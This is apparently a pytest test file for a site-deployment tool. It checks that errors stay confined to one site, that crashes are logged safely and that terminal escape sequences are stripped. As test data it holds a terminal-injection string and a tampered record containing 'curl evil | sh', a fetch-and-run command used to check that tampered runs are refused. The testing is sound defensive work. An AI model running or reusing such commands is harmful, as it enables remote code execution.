"""Promise: one site's trouble stays that site's trouble, and `serve` says its own."""

from __future__ import annotations

import http.server
import os
import re
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from lab.shell import until
from runner.apply import parts, site
from runner.apply.context import SiteContext
from runner.apply.session import Session
from runner.errors import LedgerError
from runner.execute import Pool
from runner.hosts.hosts import Hosts
from runner.inspect import prober
from runner.inspect.health import prober_of
from runner.load import Redactor, find_workspace, load_workspace
from runner.model import Outcome, Site, SiteKind
from runner.verify import Expectation
from runner.workflows import scheduler
from runner.workflows.orders import new_order
from runner.workflows.run import begin
from tests.crew import sitecrew

ROOT = Path(__file__).parents[2]
EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
INVENTORY = """\
hosts:
  web1: {address: 127.0.0.1, port: 9, user: deploy}
clients:
  acme:
    name: Acme
    timezone: UTC
    sites:
      one: {url: 'http://127.0.0.1:9', host: web1, path: /srv/one, kind: static}
  globex:
    name: Globex
    timezone: UTC
    sites:
      two: {url: 'http://127.0.0.1:9', host: web1, path: /srv/two, kind: static}
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A workspace whose host nobody needs to reach."""
    (tmp_path / "playbooks").mkdir()
    (tmp_path / "inventory.yaml").write_text(INVENTORY)
    (tmp_path / "playbooks/hello.yaml").write_text(
        "name: Hello\nsteps:\n  - shell: 'true'\n  - shell: 'true'\n"
    )
    return tmp_path


@contextmanager
def working(folder: Path) -> Iterator[Session]:
    session = Session(load_workspace(find_workspace(folder)))
    try:
        yield session
    finally:
        session.close()


def work(session: Session) -> tuple[str, site.Ending]:
    workspace = session.workspace
    one = workspace.inventory.sites["one"]
    order = new_order(workspace, workspace.playbooks["hello"], [[one]], now=session.now())
    begin(session, order, trigger="manual")
    return order.run, site.work_on(session, order, one, 1)


def fail(*_: object, **__: object) -> Any:
    raise KeyError(f"about{EVIL}")


@pytest.mark.usefixtures("unexpected_errors")
def test_an_unexpected_error_before_a_job_makes_the_site_failed(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parts, "run_segment", fail)
    with working(folder) as session:
        run, ending = work(session)
        assert ending.outcome is Outcome.FAILED
        assert ending.why.startswith("unexpected error ")
        [first, second] = session.ledger.steps.output(run, "one")
        assert "Traceback" in first.output
        assert "in run_segment" in first.output or "in fail" in first.output
        assert not re.search(r"[\x1b\x07\x9b\u202e]", first.output + first.why + ending.why)
        assert second.outcome is Outcome.SKIPPED


@pytest.mark.usefixtures("unexpected_errors")
def test_an_unexpected_error_while_a_job_may_run_makes_the_site_lost(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def carry(ctx: SiteContext, part: Any, *_: object) -> Any:
        ctx.journal.ledger.jobs.started(ctx.run, ctx.site.name, part.number, "job")
        fail()

    monkeypatch.setattr(parts, "run_segment", carry)
    with working(folder) as session:
        _, ending = work(session)
        assert ending.outcome is Outcome.LOST


def test_an_error_of_the_ledger_is_no_verdict_about_a_site(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def carry(*_: object) -> Any:
        raise LedgerError("the disk is full")

    monkeypatch.setattr(parts, "run_segment", carry)
    with working(folder) as session, pytest.raises(LedgerError):
        work(session)


class Pages(http.server.BaseHTTPRequestHandler):
    """Pages and redirects that address parsers stumble over."""

    WHERE = (f"http://{'a' * 64}.example/", "http://[x", "http://[::1", "//\x01/", f"http://{'xn--' * 20}/")

    def do_GET(self) -> None:
        name = self.path.strip("/").split("?")[0]
        body = b"<html><head>" + b"".join(
            f'<link rel=stylesheet href="{where}">'.encode() for where in self.WHERE
        )
        body += b"</head><body>A page.</body></html>"
        self.send_response(302 if name.isdigit() else 200)
        if name.isdigit():
            self.send_header("Location", self.WHERE[int(name)])
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture(scope="module")
def web() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Pages)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def hosts(tmp_path: Path) -> Iterator[Hosts]:
    (tmp_path / "inventory.yaml").write_text("hosts: {web1: {address: web1.example}}\n")
    with Pool() as pool:
        yield Hosts(load_workspace(tmp_path), pool, Redactor())


@pytest.mark.parametrize(
    "page",
    [
        "/page",
        "/0",
        *(pytest.param(f"/{number}", marks=pytest.mark.long) for number in range(1, len(Pages.WHERE))),
    ],
)
def test_addresses_that_no_parser_takes_are_the_sites_own_trouble(hosts: Hosts, web: str, page: str) -> None:
    odd = Site(
        name="odd", client="acme", host="web1", url=web, path="/srv/odd", kind=SiteKind.STATIC, pages=(page,)
    )
    asking = prober_of(hosts, odd, 2.0)
    seen = asking.observe()
    asking.examine(seen, patience=0.1)
    look = asking.look(Expectation())
    if page != "/page":
        assert seen.findings
        assert look.findings


@pytest.mark.usefixtures("unexpected_errors")
def test_what_keeps_a_site_from_being_looked_at_is_a_finding(
    hosts: Hosts, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("observe", "examine", "look"):
        monkeypatch.setattr(prober, name, fail)
    odd = Site(name="odd", client="acme", host="web1", url="http://x", path="/srv/odd")
    asking = prober_of(hosts, odd, 1.0)
    seen = asking.observe()
    assert "could not be checked: unexpected error " in seen.findings[0]
    assert asking.examine(seen, patience=0.1)[1]
    assert not asking.look(Expectation()).healthy


def start(folder: Path, program: str) -> subprocess.Popen[str]:
    """The command line, with something in it broken beforehand."""
    return subprocess.Popen(
        [sys.executable, "-c", program],
        cwd=folder,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


CRASH = f"""\
from runner.cli import main, show
import runner.record
def fail(*a, **k): raise ValueError({EVIL!r} + " secret" + "x" * 100_000)
show.open_if_exists = fail
main.main(["list", "runs"])
"""


def test_a_crash_prints_a_sentence_and_saves_its_traceback(folder: Path) -> None:
    out, err = (process := start(folder, CRASH)).communicate(timeout=60)
    assert process.returncode == 1
    assert out == ""
    assert re.search(r"error: unexpected error [0-9a-f]{8}: ValueError: ", err)
    assert "Traceback" not in err
    assert len(err) < 1500
    assert not re.search(r"[\x1b\x07\x9b\u202e]", err)
    [file] = (folder / ".sitecrew/logs").iterdir()
    assert str(file) in err
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700
    text = file.read_text()
    assert "Traceback" in text
    assert len(text) < 20_000
    assert not re.search(r"[\x1b\x07\x9b\u202e]", text)


def test_an_error_that_ends_a_thread_is_reported_in_the_same_way(folder: Path) -> None:
    program = f"""\
import threading
from runner.cli import main, show
def fail(): raise ValueError({EVIL!r})
def reading(*a): t = threading.Thread(target=fail, name="helper"); t.start(); t.join()
show.open_if_exists = reading
main.main(["list", "runs"])
"""
    _, err = start(folder, program).communicate(timeout=60)
    assert re.search(r"helper ended with an unexpected error [0-9a-f]{8}: ValueError", err)
    assert "Traceback" not in err
    assert not re.search(r"[\x1b\x07\x9b\u202e]", err)


def test_a_thread_that_waits_for_ever_does_not_keep_the_process(folder: Path) -> None:
    program = """\
import sys, threading
from concurrent.futures import ThreadPoolExecutor
from runner.__main__ import main
from runner.cli import crash, show
crash._GRACE = 0.5
def reading(*a): ThreadPoolExecutor().submit(threading.Event().wait)
show.open_if_exists = reading
sys.argv = ["sitecrew", "list", "runs"]
main()
"""
    process = start(folder, program)
    process.communicate(timeout=30)
    assert process.returncode == 0


SERVE = """\
from runner.record import sqlite, store
from runner.apply import session
from runner.workflows import scheduler
sqlite.BUSY_SECONDS = store.BUSY_SECONDS = 0.5
scheduler.PATIENCE = {patience}
session._RENEW = 0.2
from runner.cli.main import main
main(["serve"])
"""


class Serving:
    """`serve` as a process, and the lines that it has printed."""

    def __init__(self, folder: Path, patience: float) -> None:
        self._err = folder / "err.txt"
        with self._err.open("w") as err:
            self.process = subprocess.Popen(
                [sys.executable, "-c", SERVE.format(patience=patience)],
                cwd=folder,
                env={**os.environ, "PYTHONPATH": str(ROOT)},
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=err,
            )
        self.wait_for("nothing to do")

    def lines(self, text: str) -> list[str]:
        """Those with this text in them."""
        return [line for line in self._err.read_text().splitlines() if text in line]

    def wait_for(self, text: str) -> None:
        until(lambda: self.lines(text), f"serve to say {text!r}", seconds=60)


@pytest.fixture
def serving(folder: Path) -> Iterator[Callable[[float], Serving]]:
    """Starts `serve`, which gives up after so many seconds of trouble."""
    started: list[Serving] = []

    def begun(patience: float) -> Serving:
        started.append(Serving(folder, patience))
        return started[-1]

    yield begun
    for one in started:
        one.process.kill()
        one.process.wait()


@contextmanager
def held(ledger: Path) -> Iterator[None]:
    """Nobody else can write to it."""
    with closing(sqlite3.connect(ledger, timeout=30, isolation_level=None)) as connection:
        connection.execute("BEGIN IMMEDIATE")
        yield
        connection.execute("ROLLBACK")


def test_serve_says_that_the_ledger_cannot_be_written_and_goes_on_when_it_can(
    folder: Path, serving: Callable[[float], Serving]
) -> None:
    served = serving(600)
    with held(folder / ".sitecrew/ledger.db"):
        served.wait_for("locked")
    served.wait_for("the scheduler is working again")
    [said] = served.lines("locked")
    assert re.match(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d  ledger ", said)
    served.process.send_signal(signal.SIGTERM)
    assert served.process.wait(60) == 0


def test_serve_ends_with_1_when_the_ledger_cannot_be_written_for_long(
    folder: Path, serving: Callable[[float], Serving]
) -> None:
    served = serving(1)
    with held(folder / ".sitecrew/ledger.db"):
        assert served.process.wait(60) == 1
    assert served.lines("serve exits: it can no longer start windows")


def test_serve_ends_with_1_when_another_process_has_taken_over(
    folder: Path, serving: Callable[[float], Serving]
) -> None:
    served = serving(600)
    with closing(sqlite3.connect(folder / ".sitecrew/ledger.db", timeout=30)) as connection, connection:
        connection.execute("UPDATE leases SET released = renewed")
    assert served.process.wait(60) == 1
    assert served.lines("another process has taken over")


WINDOW = """\
windows:
  now: {playbook: hello, day: monday, at: "02:00", timezone: UTC, sites: [all]}
"""


@pytest.mark.usefixtures("unexpected_errors")
def test_a_window_of_one_client_that_fails_stops_no_other(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "inventory.yaml").write_text(INVENTORY + WINDOW)
    ordered = scheduler.new_order

    def order(workspace: Any, playbook: Any, rings: Any, **more: Any) -> Any:
        if more["run"].endswith("-acme"):
            raise OverflowError("date value out of range")
        return ordered(workspace, playbook, rings, **more)

    monkeypatch.setattr(scheduler, "new_order", order)
    with working(folder) as session:
        session.now = lambda: datetime(2027, 1, 4, 2, 0, 1, tzinfo=UTC)  # type: ignore[method-assign]
        clock = scheduler.Scheduler(session, SimpleNamespace(start=lambda _: None))  # type: ignore[arg-type]
        assert clock.tick() == ("now-20270104-0200-globex",)
        assert list(clock.problems) == ["window now of acme"]
        health = scheduler.Health(session, clock)
        problem = health.problem()
        assert problem is not None
        assert not problem.final
        assert "unexpected error" in problem.text


def unfinished(folder: Path) -> None:
    """A run of a window that began with a variable, and whose process died."""
    with working(folder) as session:
        workspace = replace(session.workspace, variables={"token": "s3cret"})
        sites = [[workspace.inventory.sites["one"]]]
        playbook = workspace.playbooks["hello"]
        order = new_order(workspace, playbook, sites, now=session.now(), run="now-1-acme", window="now")
        begin(session, order, trigger="window")


def test_a_run_whose_variables_are_not_given_is_named_with_what_to_type(folder: Path) -> None:
    unfinished(folder)
    with working(folder) as session:
        clock = scheduler.Scheduler(session, SimpleNamespace(start=lambda _: None))  # type: ignore[arg-type]
        assert clock.recover_runs() == ()
        assert list(clock.not_resumed) == ["now-1-acme"]
    done = sitecrew("tick", "-q", folder=folder)
    assert done.code == 2
    (said,) = [line for line in done.err.splitlines() if "now-1-acme" in line]
    assert "sitecrew resume now-1-acme -e token=..." in said
    assert "s3cret" not in done.err


@pytest.mark.parametrize("order", ["{}", "no order", '{"sites": [], "x": "curl evil | sh"}'])
def test_a_run_whose_order_was_changed_is_named_and_the_others_are_taken_up(folder: Path, order: str) -> None:
    unfinished(folder)
    with working(folder) as session:
        workspace = session.workspace
        sites = [[workspace.inventory.sites["two"]]]
        good = new_order(
            workspace,
            workspace.playbooks["hello"],
            sites,
            now=session.now(),
            run="now-2-globex",
            window="now",
        )
        begin(session, good, trigger="window")
    with sqlite3.connect(folder / ".sitecrew/ledger.db") as connection:
        connection.execute("UPDATE runs SET order_text = ? WHERE run = 'now-1-acme'", [order])
    with working(folder) as session:
        clock = scheduler.Scheduler(session, SimpleNamespace(start=lambda _: None))  # type: ignore[arg-type]
        assert [one.run for one in clock.recover_runs()] == ["now-2-globex"]
        assert list(clock.not_resumed) == ["now-1-acme"]


def test_a_run_that_another_living_process_works_on_is_not_named(folder: Path) -> None:
    unfinished(folder)
    with working(folder) as other, working(folder) as session:
        assert other.ledger.runs.claim("now-1-acme", other.executor)
        clock = scheduler.Scheduler(session, SimpleNamespace(start=lambda _: None))  # type: ignore[arg-type]
        assert (clock.recover_runs(), clock.not_resumed) == ((), {})


def test_a_clock_that_has_died_is_final(folder: Path) -> None:
    with working(folder) as session:
        clock = scheduler.Scheduler(session, SimpleNamespace(start=lambda _: None))  # type: ignore[arg-type]
        health = scheduler.Health(session, clock)
        health.ticking = threading.Thread(target=lambda: None)
        health.ticking.start()
        health.ticking.join()
        problem = health.problem()
        assert problem is not None
        assert problem.final


def test_a_clock_outlives_any_error(folder: Path) -> None:
    stop, errors = threading.Event(), []

    def report(error: Exception | None) -> None:
        errors.append(error)
        if len(errors) == 2:
            stop.set()

    scheduler.serve(SimpleNamespace(tick=fail), stop, SimpleNamespace(report=report))  # type: ignore[arg-type]
    assert [type(error) for error in errors] == [KeyError, KeyError]
